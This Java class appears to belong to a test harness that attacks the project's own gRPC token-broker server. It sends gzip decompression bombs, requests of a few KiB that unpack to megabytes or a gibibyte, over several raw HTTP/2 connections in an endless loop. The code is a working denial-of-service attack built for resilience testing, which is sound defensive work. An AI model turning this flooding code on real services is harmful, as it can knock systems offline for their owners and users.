package io.tokenbroker.server.abuse;

import io.tokenbroker.v1.NextTokenRequest;
import io.tokenbroker.v1.TokenBrokerGrpc;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.zip.GZIPOutputStream;

/** Requests of a few KiB that are 3 MiB, or a GiB, once they are unpacked. */
final class CompressedBombs implements Attack {
  private static final int CONNECTIONS = 4;
  private static final int FRAME = 16 * 1024;
  private static final byte[] BLOCK = block();

  @Override
  public void run(Target target) {
    byte[] allowed = message(3);
    byte[] endless = message(1024);
    for (int i = 0; i < CONNECTIONS; i++) {
      byte[] message = i % 2 == 0 ? allowed : endless;
      Thread thread = new Thread(() -> attack(target, message), "bombs " + i);
      thread.setDaemon(true);
      thread.start();
    }
    target.awaitEnd();
  }

  private static void attack(Target target, byte[] message) {
    while (!target.isOver()) {
      try (FrameSocket socket = new FrameSocket(target.port(), 2)) {
        // as much as the window of a connection that is not read lets through, and more
        for (int stream = 1; !target.isOver(); stream += 2) {
          socket.frame(FrameSocket.HEADERS, FrameSocket.END_HEADERS, stream, BLOCK);
          for (int sent = 0; sent < message.length; sent += FRAME) {
            int end = Math.min(message.length, sent + FRAME);
            socket.frame(
                FrameSocket.DATA,
                end == message.length ? FrameSocket.END_STREAM : 0,
                stream,
                Arrays.copyOfRange(message, sent, end));
          }
          socket.flush();
          socket.drain();
        }
      } catch (IOException e) {
        // the next one
      }
    }
  }

  private static byte[] block() {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(Headers.of(Headers.name(TokenBrokerGrpc.getNextTokenMethod())));
    block.write(0);
    for (String text : List.of("grpc-encoding", "gzip")) {
      block.write(text.length());
      block.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
    }
    return block.toByteArray();
  }

  /** So many MiB of an unknown field, behind the account. */
  private static byte[] message(int mib) {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
      gzip.write(NextTokenRequest.newBuilder().setAccount("x").build().toByteArray());
      byte[] zeros = new byte[1 << 20];
      for (int i = 0; i < mib; i++) {
        gzip.write(zeros);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return ByteBuffer.allocate(5 + packed.size())
        .put((byte) 1)
        .putInt(packed.size())
        .put(packed.toByteArray())
        .array();
  }
}
